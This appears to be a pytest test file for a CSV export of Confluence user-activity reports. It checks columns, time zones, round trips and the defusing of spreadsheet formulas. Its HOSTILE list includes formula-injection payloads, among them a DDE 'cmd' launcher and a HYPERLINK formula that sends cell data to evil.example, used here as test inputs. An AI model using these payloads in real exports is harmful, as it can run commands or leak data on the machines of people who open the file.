"""The CSV files: columns, instants, formulas, round trips through Python's csv and pandas, file names."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, date, datetime

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from uar.activity import ActivityType
from uar.report.days import calendar
from uar.report.export import Heading, days_csv, defused, person_file_name, users_csv, users_file_name, with_mark
from uar.report.mirror import Mirror
from uar.report.people import people_table
from uar.report.selection import Selection
from uar.report.status import Rules

HEADING = Heading(date(2025, 11, 25), date(2026, 11, 24), "Europe/Berlin", datetime(2026, 11, 24, 13, 32, 5, tzinfo=UTC))
COLUMNS = (
    "account_id,display_name,email,account_type,account_status,groups,status,days_since_last_active,first_active_at,last_active_at,"
    "last_event_type,active_days,longest_streak,current_streak,events_total,view,create,update,delete,comment,like,attachment,label,"
    "space,other,report_from,report_to,report_timezone,generated_at_utc,schema_version"
)
NAMES = [
    'Ann "Ace" O\'Neil', "two\nlines", "two\r\nlines", "Weber, Jonas", "a;b",
    "🦊 Fox", "שלום עולם", "مرحبا", "O\u2019Brien", " blanks ", "tab\there",
]  # fmt: skip
# Starters of formulas, also behind blanks and marks that cannot be seen, and their full-width forms.
HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "%0A", "\t=1", "\r=1", "\n=1", "\x00=1", " =1", "\ufeff=1", "\u200b=1", "\u00a0=1",
    "＝1+1", "＋1", "－1", "＠A1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/"&A1,"click")',
]  # fmt: skip


def table(names: list[str], **facts: object) -> pd.DataFrame:
    count = len(names)
    blank = {name: pd.Series([None] * count, dtype="Int64") for name in ("created_at", "first_active_at", "last_active_at", "last_type")}
    people = pd.DataFrame({"id": range(1, count + 1), "display_name": pd.Series(names, dtype="str")} | blank)
    people = people.assign(account_id=[f"a{one}" for one in people["id"]], email="", kind="person", state="active", first_seen_at=1)
    people["atlassian_last_seen_at"] = pd.Series([None] * count, dtype="Int64")
    selection = Selection(HEADING.first, HEADING.last, HEADING.zone)
    return people_table(Mirror.empty(), people.assign(**facts), selection, Rules(HEADING.last, HEADING.zone))


ONE = table(["Ann"])


def lines(content: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline=""), delimiter=delimiter))


def test_columns_stand_in_their_order() -> None:
    content = users_csv(table(["Ann"]), HEADING)
    assert content.split(b"\r\n")[0].decode() == COLUMNS
    assert users_csv(table([]), HEADING).decode() == COLUMNS + "\r\n"


def test_a_row_holds_the_numbers_and_what_the_report_was_asked() -> None:
    facts = {
        "first_active_at": int(datetime(2026, 7, 1, 22, 30, tzinfo=UTC).timestamp() * 1000),
        "last_active_at": int(datetime(2026, 11, 23, 23, 30, 1, 999_000, tzinfo=UTC).timestamp() * 1000),
        "last_type": 4,
        "email": "ann@example.org",
    }
    row = lines(users_csv(table(["Ann"], **facts), HEADING))[0]
    assert row == {
        "account_id": "a1", "display_name": "Ann", "email": "ann@example.org", "account_type": "person", "account_status": "active",
        "groups": "", "status": "Active", "days_since_last_active": "0",
        "first_active_at": "2026-07-02T00:30:00+02:00", "last_active_at": "2026-11-24T00:30:01+01:00", "last_event_type": "comment",
        "active_days": "0", "longest_streak": "0", "current_streak": "0", "events_total": "0",
        **{kind.key: "0" for kind in ActivityType},
        "report_from": "2025-11-25", "report_to": "2026-11-24", "report_timezone": "Europe/Berlin",
        "generated_at_utc": "2026-11-24T13:32:05+00:00", "schema_version": "1",
    }  # fmt: skip


def test_what_is_not_known_is_an_empty_field() -> None:
    row = lines(users_csv(table(["Ann"]), HEADING))[0]
    assert [row[name] for name in ("days_since_last_active", "first_active_at", "last_active_at", "last_event_type", "email")] == [""] * 5


@pytest.mark.parametrize(
    ("zone", "expected"),
    [
        ("Asia/Kathmandu", "2026-01-15T17:45:00+05:45"),
        ("America/St_Johns", "2026-01-15T08:30:00-03:30"),
        ("UTC", "2026-01-15T12:00:00+00:00"),
    ],
)
def test_instants_carry_the_offset_of_the_zone(zone: str, expected: str) -> None:
    noon = int(datetime(2026, 1, 15, 12, tzinfo=UTC).timestamp() * 1000)
    heading = Heading(HEADING.first, HEADING.last, zone, HEADING.generated_at)
    row = lines(users_csv(table(["Ann"], last_active_at=noon), heading))[0]
    assert row["last_active_at"] == expected
    assert datetime.fromisoformat(row["last_active_at"]).timestamp() * 1000 == noon


def test_names_survive_a_round_trip() -> None:
    content = with_mark(users_csv(table(NAMES), HEADING))
    assert content.startswith(b"\xef\xbb\xbfaccount_id,")
    assert [row["display_name"] for row in lines(content.removeprefix(b"\xef\xbb\xbf"))] == NAMES
    read = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", keep_default_na=False)
    assert read["display_name"].tolist() == NAMES
    assert read["account_id"].tolist() == [f"a{number}" for number in range(1, len(NAMES) + 1)]


def test_a_file_has_no_mark_unless_it_is_asked_for() -> None:
    content = users_csv(table(["Ann"]), HEADING)
    assert content.startswith(b"account_id,")
    assert with_mark(content) == b"\xef\xbb\xbf" + content


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_gets_an_apostrophe(name: str) -> None:
    assert lines(users_csv(table([name]), HEADING))[0]["display_name"].startswith("'")
    assert defused(name)[1:].replace(" ", "") == name.replace(" ", "")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("a;=1+1", "a; =1+1"),
        ("a;@b", "a; @b"),
        ("a\t=1", "a\t =1"),
        ("a\n-1", "a\n -1"),
        ("a\r\n=1", "a\r\n =1"),
        ("a;\u200b=1", "a; \u200b=1"),
    ],
)
def test_a_cell_split_by_another_separator_starts_no_formula(name: str, expected: str) -> None:
    assert defused(name) == expected


def test_with_semicolons_a_comma_is_what_could_split_a_cell() -> None:
    content = users_csv(table(["a,=1", "b;c"]), HEADING, separator=";")
    assert [row["display_name"] for row in lines(content, ";")] == ["a, =1", "b;c"]


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab =+-@|%;,\t\r\n\"'\u200b＝")), max_size=12))
def test_no_field_starts_a_formula_whichever_separator_is_taken(name: str) -> None:
    content = users_csv(ONE.assign(display_name=[name]), HEADING).decode()
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "|", "%", "＝"))


@settings(deadline=None)
@given(st.text(max_size=20).filter(lambda text: defused(text) == text))
def test_every_harmless_name_comes_back_unchanged(name: str) -> None:
    assert lines(users_csv(ONE.assign(display_name=[name]), HEADING))[0]["display_name"] == name


def test_half_a_surrogate_pair_does_not_break_the_file() -> None:
    frame = table(["Ann"])
    frame["groups"] = pd.Series(["x\ud800y"], dtype=object)
    assert lines(users_csv(frame, HEADING))[0]["groups"] == "x?y"


def test_a_pseudonymous_file_names_nobody_and_no_time_of_day() -> None:
    at = int(datetime(2026, 11, 23, 23, 30, tzinfo=UTC).timestamp() * 1000)
    row = lines(users_csv(table(["Ann"], last_active_at=at), HEADING, is_pseudonymous=True))[0]
    assert "display_name" not in row
    assert "email" not in row
    assert row["last_active_at"] == "2026-11-24"


def test_one_persons_file_has_every_day() -> None:
    days = calendar(Mirror.empty(), Selection(date(2026, 3, 28), date(2026, 3, 30), "Europe/Berlin"))
    rows = lines(days_csv(days, HEADING, account_id="=a1"))
    assert [row["day"] for row in rows] == ["2026-03-28", "2026-03-29", "2026-03-30"]
    assert (rows[0]["account_id"], rows[0]["events"], rows[0]["other"], rows[0]["schema_version"]) == ("'=a1", "0", "0", "1")
    assert "people" not in rows[0]
    assert list(lines(days_csv(days, HEADING))[0])[:3] == ["day", "events", "people"]


def test_file_names_are_lower_case_without_blanks() -> None:
    end = "2025-11-25_2026-11-24_20261124t133205z.csv"
    assert users_file_name("../..", HEADING) == f"confluence-user-status_site_{end}"
    assert users_file_name("Acme Wiki/Ä", HEADING) == f"confluence-user-status_acme-wiki_{end}"
    assert person_file_name("4f27", HEADING) == f"confluence-user-activity_4f27_{end}"


def test_many_people_are_written_quickly() -> None:
    many = pd.concat([table(NAMES)] * 2000, ignore_index=True)
    start = time.process_time()
    content = users_csv(many, HEADING)
    assert time.process_time() - start < 5  # 22,000 people; a tenth of that on a quiet machine
    assert len(lines(content)) == len(many)
